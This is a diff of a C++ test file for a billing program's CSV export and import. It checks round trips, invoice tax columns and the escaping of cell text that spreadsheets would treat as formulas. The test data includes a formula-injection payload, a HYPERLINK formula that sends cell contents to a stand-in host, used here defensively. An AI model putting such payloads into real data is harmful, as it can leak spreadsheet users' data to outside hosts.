@@ -2,7 +2,12 @@
 // engines: a round trip keeps every field, a refused row writes nothing and is named, UTF-8 and CP932
 // files read alike, stored codes are updated or skipped.
 #include "app/CsvExport.h"
+#include "app/MainLists.h"
+#include "billing/Receivables.h"
+#include "data/Engine.h"
+#include "data/ListCsv.h"
 #include "DocumentFixture.h"
+#include "documents/DocumentStore.h"
 #include "masters/CsvImport.h"
 #include "masters/CustomerStore.h"
 #include "masters/ProductStore.h"
@@ -36,7 +41,11 @@ QList<CustomerRecord> sampleCustomers()
     b.Keisyo = QStringLiteral("御中");
     b.Kisyuzan = 2147483647;
     b.SeikyuSimebi = 20;
-    return {a, b};
+    CustomerRecord sameCode = b; // the windows let two customers share a code
+    sameCode.TorihikisakiNM = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")");
+    sameCode.Tel = QStringLiteral("+81-52-0000");
+    sameCode.Kisyuzan = -2147483647 - 1;
+    return {a, b, sameCode};
 }
 
 QList<ProductRecord> sampleProducts()
@@ -68,6 +77,21 @@ class TestCsvExchange : public QObject
 
     std::unique_ptr<TestDatabase> t;
 
+    // A customer as a document editor registers it with the document: code 0, no amounts, the
+    // honorific chosen or none.
+    void registerFromAnEditor(const QString &keisyo)
+    {
+        DocumentRecord d;
+        d.Hiduke = QDate(2024, 4, 9);
+        d.number = QStringLiteral("M-%1").arg(keisyo.size());
+        DocumentStore::SaveOptions o;
+        o.settings = {Numbering::kTenyuryoku, {}, {}, {}};
+        o.newCustomer.TorihikisakiNM = QStringLiteral("見積先");
+        o.newCustomer.Keisyo = keisyo;
+        o.newCustomer.Tel = QStringLiteral("052-000-0000");
+        DocumentStore::save(t->db(), DocumentStore::Kind::Mitumori, d, o);
+    }
+
 private Q_SLOTS:
     void init()
     {
@@ -76,57 +100,154 @@ private Q_SLOTS:
     }
     void cleanup() { t.reset(); }
 
-    void exportThenImportKeepsEveryField_data()
+    // Every customer the program can hold: registered by a document editor (code 0, perhaps no
+    // honorific), sharing a code, with texts a spreadsheet would take for formulas. Export, import and
+    // export again give the same file: into the same database nothing changes, into an emptied table
+    // the customers come back with their registration dates (under new keys).
+    void exportImportExportRoundTrips_data()
     {
         QTest::addColumn<Csv::Encoding>("encoding");
-        QTest::addRow("utf-8") << Csv::Encoding::Utf8;
-        QTest::addRow("cp932") << Csv::Encoding::Cp932;
+        QTest::addColumn<bool>("emptied");
+        for (const bool emptied : {false, true}) {
+            const char *where = emptied ? "into an emptied table" : "into the same database";
+            QTest::addRow("utf-8 %s", where) << Csv::Encoding::Utf8 << emptied;
+            QTest::addRow("cp932 %s", where) << Csv::Encoding::Cp932 << emptied;
+        }
     }
-    void exportThenImportKeepsEveryField()
+    void exportImportExportRoundTrips()
     {
         QFETCH(Csv::Encoding, encoding);
+        QFETCH(bool, emptied);
         TEngineDatabase &db = t->db();
         for (const CustomerRecord &c : sampleCustomers())
             CustomerStore::insert(db, c);
+        for (const QString &keisyo : {QStringLiteral("様"), QString()})
+            registerFromAnEditor(keisyo);
         for (const ProductRecord &p : sampleProducts())
             ProductStore::insert(db, p);
-        const QByteArray customers = Csv::encode(CsvExport::rows(db, CsvExport::Kind::Customers), encoding);
-        const QByteArray products = Csv::encode(CsvExport::rows(db, CsvExport::Kind::Products), encoding);
-        QCOMPARE(customers.startsWith("\xEF\xBB\xBF"), encoding == Csv::Encoding::Utf8);
-        t->exec(QStringLiteral("delete from Torihikisaki; delete from Syohin"));
+        const QList<QStringList> customers = CsvExport::rows(db, CsvExport::Kind::Customers);
+        const QList<QStringList> products = CsvExport::rows(db, CsvExport::Kind::Products);
+        const QByteArray customerBytes = Csv::encode(customers, encoding);
+        QCOMPARE(customerBytes.startsWith("\xEF\xBB\xBF"), encoding == Csv::Encoding::Utf8);
+        if (emptied)
+            t->exec(QStringLiteral("delete from Torihikisaki; delete from Syohin"));
+        const QStringList before = t->fingerprint();
 
-        for (auto [kind, bytes] : {std::pair{CsvImport::Kind::Customers, customers},
-                                   std::pair{CsvImport::Kind::Products, products}}) {
+        for (auto [kind, bytes] : {std::pair{CsvImport::Kind::Customers, customerBytes},
+                                   std::pair{CsvImport::Kind::Products, Csv::encode(products, encoding)}}) {
             const CsvImport::Preview preview = CsvImport::preview(db, kind, bytes);
             QVERIFY2(preview.problemTexts().isEmpty(), qPrintable(preview.problemTexts().join('\n')));
             QCOMPARE(preview.encoding, encoding);
-            CsvImport::apply(db, preview, CsvImport::Existing::Update, false);
+            QCOMPARE(preview.updates(CsvImport::Existing::Update), 0);
+            const CsvImport::Outcome outcome =
+                CsvImport::apply(db, preview, CsvImport::Existing::Update, false);
+            QCOMPARE(emptied ? outcome.added : outcome.unchanged, preview.rows.size());
         }
-        for (const CustomerRecord &c : sampleCustomers()) {
-            const std::optional<int> key = CustomerStore::keyByCode(db, c.TorihikisakiCD);
-            QVERIFY(key);
-            const CustomerRecord r = *CustomerStore::load(db, *key);
-            QCOMPARE(r.TorihikisakiNM, c.TorihikisakiNM);
-            QCOMPARE(r.Keisyo, c.Keisyo);
-            QCOMPARE(r.Yubin, c.Yubin);
-            QCOMPARE(r.Jyusyo1, c.Jyusyo1);
-            QCOMPARE(r.Jyusyo2, c.Jyusyo2);
-            QCOMPARE(r.Tel, c.Tel);
-            QCOMPARE(r.Fax, c.Fax);
-            QCOMPARE(r.Busyo, c.Busyo);
-            QCOMPARE(r.Tantosya, c.Tantosya);
-            QCOMPARE(r.Mail, c.Mail);
-            QCOMPARE(r.Kisyuzan, c.Kisyuzan);
-            QCOMPARE(r.ZenkaiSeikyuGaku, c.ZenkaiSeikyuGaku);
-            QCOMPARE(r.SeikyuSimebi, c.SeikyuSimebi);
-        }
-        for (const ProductRecord &p : sampleProducts()) {
-            const std::optional<ProductRecord> r = ProductStore::load(db, p.SyohinCD);
-            QVERIFY(r);
-            QCOMPARE(r->SyohinNM, p.SyohinNM);
-            QCOMPARE(r->Kikaku, p.Kikaku);
-            QCOMPARE(r->Tani, p.Tani);
-            QCOMPARE(r->Tanka, p.Tanka);
+        if (!emptied)
+            QCOMPARE(t->fingerprint(), before);
+        const auto withoutKeys = [emptied](QList<QStringList> rows) {
+            if (emptied)
+                for (QStringList &row : rows)
+                    row.removeFirst();
+            return rows;
+        };
+        QCOMPARE(withoutKeys(CsvExport::rows(db, CsvExport::Kind::Customers)), withoutKeys(customers));
+        QCOMPARE(CsvExport::rows(db, CsvExport::Kind::Products), products);
+    }
+
+    // Texts a spreadsheet would run are written behind a "'" (numbers stay numbers) and read back
+    // as they were.
+    void formulaTextsAreWrittenAsText_data()
+    {
+        QTest::addColumn<QString>("name");
+        QTest::addColumn<QByteArray>("written");
+        QTest::addRow("HYPERLINK") << "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
+                                   << QByteArray(
+                                          "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"");
+        QTest::addRow("plus") << "+81-52-000" << QByteArray(",'+81-52-000,");
+        QTest::addRow("minus") << "-2+3" << QByteArray(",'-2+3,");
+        QTest::addRow("at") << "@SUM(A1)" << QByteArray(",'@SUM(A1),");
+        QTest::addRow("tab") << "\tcmd" << QByteArray(",'\tcmd,");
+        QTest::addRow("carriage return") << "\r=1" << QByteArray(",\"'\r=1\",");
+        QTest::addRow("already behind a quote") << "'=1" << QByteArray(",''=1,");
+        QTest::addRow("a quote alone") << "'quoted" << QByteArray(",'quoted,");
+        QTest::addRow("a number in a text") << "-500" << QByteArray(",-500,");
+    }
+    void formulaTextsAreWrittenAsText()
+    {
+        QFETCH(QString, name);
+        QFETCH(QByteArray, written);
+        CustomerRecord c;
+        c.TorihikisakiCD = 1;
+        c.TorihikisakiNM = name;
+        c.Kisyuzan = -500;
+        CustomerStore::insert(t->db(), c);
+        const QByteArray bytes =
+            Csv::encode(CsvExport::rows(t->db(), CsvExport::Kind::Customers), Csv::Encoding::Utf8);
+        QVERIFY2(bytes.contains(written), bytes.constData());
+        QVERIFY2(bytes.contains(",-500,0,0,"), bytes.constData()); // 期首売掛残, 前回請求額, 締日
+
+        t->exec(QStringLiteral("delete from Torihikisaki"));
+        const CsvImport::Preview preview = CsvImport::preview(t->db(), CsvImport::Kind::Customers, bytes);
+        QVERIFY2(preview.problemTexts().isEmpty(), qPrintable(preview.problemTexts().join('\n')));
+        CsvImport::apply(t->db(), preview, CsvImport::Existing::Update, false);
+        const CustomerRecord back = *CustomerStore::load(t->db(), *CustomerStore::keyByCode(t->db(), 1));
+        QCOMPARE(back.TorihikisakiNM, name);
+        QCOMPARE(back.Kisyuzan, -500);
+    }
+
+    // The other files the program writes go through the same writer.
+    void everyCsvGuardsFormulas()
+    {
+        DocumentFixture f(t->db());
+        FixtureCustomer fc;
+        fc.name = QStringLiteral("=1+2");
+        const int c = f.addCustomer(fc);
+        f.addDeliveryNote(c, DocumentFixture::lines(1), -500, QDate(2024, 4, 1));
+        TEngineQuery list(&t->db());
+        MainLists::setUpDeliveryNotes(list);
+        list.Open();
+        const QByteArray bytes = Csv::encode(ListCsv::listRows(list), Csv::Encoding::Utf8);
+        QVERIFY2(bytes.contains(",'=1+2,-500,"), bytes.constData());
+        const QByteArray receivables = Csv::encode(
+            Receivables::csvRows(Receivables::balances(t->db(), QDate(2024, 4, 30))), Csv::Encoding::Cp932);
+        QVERIFY2(receivables.contains(",'=1+2,0,0,-500,-500,"), receivables.constData());
+    }
+
+    // The invoice list carries per rate the amount without tax and the tax, and the untaxed amount,
+    // after its own columns; empty for an invoice made without the option.
+    void invoicesCarryTheirTax_data()
+    {
+        QTest::addColumn<int>("pricesIncludeTax");
+        QTest::addColumn<QStringList>("taxColumns");
+        QTest::addRow("prices without tax") << 0 << QStringList{"1005", "100", "2468", "197", "500"};
+        QTest::addRow("prices with tax") << 1 << QStringList{"905", "100", "2271", "197", "500"};
+    }
+    void invoicesCarryTheirTax()
+    {
+        QFETCH(int, pricesIncludeTax);
+        QFETCH(QStringList, taxColumns);
+        DocumentFixture f(t->db());
+        f.addCompany();
+        t->exec(
+            QStringLiteral("update JisyaJyoho set TekikakuKBN = 1, ZeiKomiKBN = %1").arg(pricesIncludeTax));
+        const int c = f.addCustomer();
+        const int taxed = f.addInvoice(c, FixtureInvoice{}, {});
+        f.addInvoice(c, FixtureInvoice{QStringLiteral("S-0002")}, {});
+        t->exec(QStringLiteral("update Seikyu set Taisyo10 = 1005, Zei10 = 100, Taisyo8 = 2468, Zei8 = 197, "
+                               "Hikazei = 500 where key = %1")
+                    .arg(taxed));
+        const QStringList titles{"10%対象（税抜）", "10%消費税", "8%対象（税抜）", "8%消費税", "非課税"};
+        TEngineQuery list(&t->db());
+        MainLists::setUpInvoices(list);
+        list.Open();
+        const QList<QStringList> listRows = ListCsv::listRows(list);
+        for (const QList<QStringList> &rows :
+             {CsvExport::rows(t->db(), CsvExport::Kind::Invoices), CsvExport::invoiceListRows(list)}) {
+            QCOMPARE(rows.size(), 3);
+            QCOMPARE(rows.at(0), listRows.at(0) + titles); // the list's columns first, in their order
+            QCOMPARE(rows.at(1), listRows.at(1) + taxColumns);
+            QCOMPARE(rows.at(2), listRows.at(2) + QStringList(5, QString()));
         }
     }
 
